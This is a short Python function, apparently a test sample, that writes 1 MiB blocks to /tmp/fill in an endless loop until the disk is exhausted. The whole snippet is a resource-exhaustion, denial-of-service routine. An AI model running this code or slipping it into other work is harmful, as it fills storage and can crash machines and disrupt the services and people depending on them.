def f(x):
    with open("/tmp/fill", "wb") as file:
        while True:
            file.write(b"x" * (1 << 20))
